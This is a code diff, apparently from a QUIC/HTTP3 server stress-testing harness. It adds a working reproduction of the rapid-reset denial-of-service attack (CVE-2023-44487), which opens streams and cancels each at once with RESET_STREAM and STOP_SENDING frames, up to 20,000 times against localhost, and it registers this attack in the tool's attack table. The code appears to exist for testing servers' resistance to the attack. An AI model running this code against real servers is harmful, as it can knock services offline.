@@ -1100,6 +1100,58 @@ attack_fragments(ngx_uint_t n)
 }
 
 
+/* 24, CVE-2023-44487: requests that are cancelled at once */
+
+static void
+attack_rapid_reset(ngx_uint_t n)
+{
+    u_char       frames[128];
+    size_t       len;
+    client_t    *c;
+    uint64_t     id;
+    ngx_uint_t   i;
+
+    /* HEADERS: GET https://localhost/ */
+
+    static const char  headers[] =
+        "01 10 00 00 d1 d7 c1 50 09 6c 6f 63 61 6c 68 6f 73 74";
+
+    c = attack_client(NULL, CLIENT_ESTABLISHED);
+
+    for (i = 0; i < n && !c->close.n; i++) {
+        id = 4 * i;
+
+        while (i >= ngx_max(c->max_streams_bidi,
+                            c->peer.initial_max_streams_bidi)
+               && !c->close.n)
+        {
+            (void) client_wait(c, client_is_closed, 1);
+        }
+
+        frames[0] = QUIC_FT_STREAM|QUIC_STREAM_LEN;
+        len = quic_varint_write(frames + 1, id) - frames;
+        frames[len] = 18;
+        len += 1 + client_hex(frames + len + 1, headers);
+
+        frames[len] = QUIC_FT_RESET_STREAM;
+        len = quic_varint_write(frames + len + 1, id) - frames;
+        len += client_hex(frames + len, "41 0c 12");
+
+        frames[len] = QUIC_FT_STOP_SENDING;
+        len = quic_varint_write(frames + len + 1, id) - frames;
+        len += client_hex(frames + len, "41 0c");
+
+        (void) attack_put(c, frames, len, i);
+    }
+
+    (void) client_wait(c, client_is_closed, 200);
+
+    attack_report("requests", i);
+    attack_report_close(c);
+    attack_end(c);
+}
+
+
 static const attack_t  attacks[] = {
     { "path_challenge", 20000, attack_path_challenge },
     { "retire_prior_to", 1000, attack_retire_prior_to },
@@ -1122,7 +1174,8 @@ static const attack_t  attacks[] = {
     { "key_updates", 200, attack_key_updates },
     { "cheap_frames", 2000, attack_cheap_frames },
     { "ack_ranges", 3000, attack_ack_ranges },
-    { "fragments", 20000, attack_fragments }
+    { "fragments", 20000, attack_fragments },
+    { "rapid_reset", 20000, attack_rapid_reset }
 };
 
 #define ATTACKS  (sizeof(attacks) / sizeof(attacks[0]))
